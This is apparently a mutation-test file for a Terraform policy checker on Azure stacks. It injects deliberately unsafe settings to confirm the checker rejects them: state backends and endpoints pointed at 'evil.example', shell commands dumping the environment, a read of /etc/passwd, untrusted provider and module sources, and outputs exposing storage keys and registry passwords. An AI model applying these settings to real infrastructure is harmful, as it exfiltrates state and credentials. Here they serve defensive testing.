import type { Mutation } from "./basic";
import { inStack, mutation, provider } from "./stacks";

type Tree = Record<string, unknown>;
const CHURN = "prod-customer-churn";
const ANOTHERS =
  "/subscriptions/2e704d9c-3186-4c58-9e3f-9d0214c6f303/resourceGroups/x/providers/Microsoft.Logic/workflows/x";
const OTHER = "0c5e2b7a-1f64-4a36-9c1d-7be0f2a4d101";
const azurerm = (what: string, change: (settings: Tree) => void, stack = "prod"): Mutation =>
  mutation(`azurerm of ${stack}: ${what}`, provider(stack, "azurerm", change));
const azapi = (what: string, change: (settings: Tree) => void, stack = "prod"): Mutation =>
  mutation(`azapi of ${stack}: ${what}`, provider(stack, "azapi", change));
const sets = (key: string, value: unknown) => (settings: Tree) => {
  settings[key] = value;
};
const requirement = (what: string, name: string, change: Tree): Mutation =>
  mutation(
    what,
    inStack("prod", (json) => {
      const required = (json["terraform"] as { required_providers: Record<string, Tree> }).required_providers;
      required[name] = { ...required[name], ...change };
    }),
  );
const backend = (what: string, change: (settings: Tree) => void, stack = "prod"): Mutation =>
  mutation(
    `backend of ${stack}: ${what}`,
    inStack(stack, (json) => {
      change((json["terraform"] as { backend: Record<string, Tree> }).backend["azurerm"]!);
    }),
  );
const block = (what: string, key: string, value: unknown, stack = "prod"): Mutation =>
  mutation(
    what,
    inStack(stack, (json) => {
      json[key] = { ...(json[key] as Tree | undefined), ...(value as Tree) };
    }),
  );
const provisioned = (what: string, type: string, extra: Tree): Mutation =>
  mutation(
    what,
    inStack("prod", (json) => {
      const [first] = Object.values((json["resource"] as Record<string, Record<string, Tree>>)[type]!);
      Object.assign(first!, extra);
    }),
  );

export const stackMutations: Readonly<Record<string, readonly Mutation[]>> = {
  "provider-settings-safe": [
    azurerm("another subscription", sets("subscription_id", OTHER)),
    azurerm("no subscription", sets("subscription_id", undefined)),
    azurerm("another tenant", sets("tenant_id", "00000000-0000-4000-8000-000000000000")),
    azurerm("no tenant", sets("tenant_id", undefined)),
    azurerm("another environment's subscription in a use case", sets("subscription_id", OTHER), CHURN),
    azurerm("an environment's subscription for the registry", sets("subscription_id", OTHER), "registry"),
    azurerm("an environment's subscription for states", sets("subscription_id", OTHER), "bootstrap"),
    azurerm("the machine's identity", sets("use_msi", true)),
    azurerm("a secret", sets("client_secret", "x")),
    azurerm("the command line's identity", sets("use_cli", true)),
    azurerm("another cloud", sets("environment", "china")),
    azurerm("another metadata host", sets("metadata_host", "evil.example")),
    azurerm("other tenants", sets("auxiliary_tenant_ids", ["x"])),
    azurerm("every resource provider", sets("resource_provider_registrations", "all")),
    azurerm("resource providers by default", sets("resource_provider_registrations", undefined)),
    azurerm("more resource providers", sets("resource_providers_to_register", ["Microsoft.Compute"])),
    azurerm("keys of storage", sets("storage_use_azuread", false)),
    azurerm("a second one", sets("alias", "other")),
    azurerm("the data plane of storage", (settings) => {
      (settings["features"] as Tree[])[0]!["storage"] = [{ data_plane_available: true }];
    }),
    azurerm("machines are forced off", (settings) => {
      (settings["features"] as Tree[])[0]!["virtual_machine"] = [{ skip_shutdown_and_force_delete: true }];
    }),
    azapi("another subscription", sets("subscription_id", OTHER)),
    azapi("registers by itself", sets("skip_provider_registration", false)),
    azapi("a secret", sets("client_secret", "x")),
    azapi("another endpoint", sets("endpoint", [{ resource_manager_endpoint: "https://evil.example" }])),
    azapi("answers in the state", sets("disable_default_output", false)),
    azapi("without checks", sets("enable_preflight", false)),
  ],
  "provider-known": [
    requirement("azurerm from elsewhere", "azurerm", { source: "evil/azurerm" }),
    requirement("azurerm from another host", "azurerm", { source: "registry.example.com/hashicorp/azurerm" }),
    requirement("any azurerm", "azurerm", { version: ">= 4.0.0" }),
    requirement("an older azurerm", "azurerm", { version: "4.0.0" }),
    requirement("azapi from elsewhere", "azapi", { source: "evil/azapi" }),
    requirement("a newer azapi", "azapi", { version: "~> 2.12" }),
    requirement("a provider that runs things", "null", { source: "hashicorp/null", version: "3.2.0" }),
    requirement("a provider that shells out", "external", { source: "hashicorp/external", version: "2.3.0" }),
  ],
  "state-kept-safe": [
    backend("another stack's state", sets("key", "dev.tfstate")),
    backend("another stack's state for a use case", sets("key", "prod.tfstate"), CHURN),
    backend("a key", sets("access_key", "x")),
    backend("a signed address", sets("sas_token", "x")),
    backend("keys instead of Entra", sets("use_azuread_auth", false)),
    backend("keys instead of Entra, unsaid", sets("use_azuread_auth", undefined)),
    backend("another account", sets("storage_account_name", "stother")),
    backend("another container", sets("container_name", "public")),
    backend("the machine's identity", sets("use_msi", true)),
    mutation(
      "the state on a web server",
      inStack("prod", (json) => {
        (json["terraform"] as Tree)["backend"] = { http: { address: "https://evil.example" } };
      }),
    ),
    mutation(
      "the state in another's cloud",
      inStack("prod", (json) => {
        (json["terraform"] as Tree)["cloud"] = { organization: "x" };
      }),
    ),
  ],
  "data-source-known": [
    block("a command while planning", "data", { external: { X: { program: ["sh", "-c", "env"] } } }),
    block("a request while planning", "data", { http: { X: { url: "https://evil.example" } } }),
    block("another state while planning", "data", { terraform_remote_state: { X: { backend: "azurerm" } } }),
    block("a secret while planning", "data", { azurerm_key_vault_secret: { X: { name: "x" } } }),
    block("keys while planning", "data", { azurerm_storage_account: { X: { name: "x" } } }),
    block("a file while planning", "data", { local_file: { X: { filename: "/etc/passwd" } } }),
    block("a signed address while planning", "data", { azurerm_storage_account_sas: { X: {} } }, CHURN),
  ],
  "no-module": [
    block("a module from the registry", "module", { X: { source: "Azure/naming/azurerm" } }),
    block("a module from git", "module", { X: { source: "git::https://evil.example/x.git" } }, CHURN),
  ],
  "block-known": [block("out of sight", "removed", { from: "azurerm_storage_account.x" })],
  "ephemeral-known": [
    block("a password on every run", "ephemeral", { random_password: { X: {} } }),
    block("a key of storage on every run", "ephemeral", {
      azapi_resource_action: {
        X: {
          type: "Microsoft.Storage/storageAccounts@2024-01-01",
          resource_id: "x",
          action: "listKeys",
          method: "POST",
        },
      },
    }),
    ...(
      [
        ["another's workflow", "resource_id", ANOTHERS],
        ["the address while planning", "action", "triggers/Request/listCallbackUrl"],
        ["a call while planning", "method", "POST"],
      ] as const
    ).map(([what, argument, value]) =>
      mutation(
        what,
        inStack(CHURN, (json) => {
          const all = json["ephemeral"] as Record<string, Record<string, Tree>>;
          Object.values(all["azapi_resource_action"]!)[0]![argument] = value;
        }),
      ),
    ),
  ],
  "no-provisioner": [
    provisioned("a command", "azurerm_storage_account", { provisioner: [{ "local-exec": { command: "env" } }] }),
    provisioned("a command on destroy", "azurerm_resource_group", {
      provisioner: [{ "local-exec": { when: "destroy", command: "env" } }],
    }),
    provisioned("a command elsewhere", "azurerm_container_registry", {
      provisioner: [{ "remote-exec": { inline: ["env"] } }],
    }),
    provisioned("a way in", "azurerm_log_analytics_workspace", { connection: { host: "x" } }),
  ],
  "output-no-secret": [
    block("the key of storage", "output", { x: { value: "${azurerm_storage_account.x.primary_access_key}" } }),
    block("the connection of insights", "output", {
      x: { value: "${azurerm_application_insights.x.connection_string}" },
    }),
    block("the key of logs", "output", { x: { value: "${azurerm_log_analytics_workspace.x.primary_shared_key}" } }),
    block(
      "the address of a workflow",
      "output",
      { x: { value: "${azapi_resource_action.x.sensitive_output.url}" } },
      CHURN,
    ),
    block("the password of the registry", "output", { x: { value: "${azurerm_container_registry.x.admin_password}" } }),
  ],
};
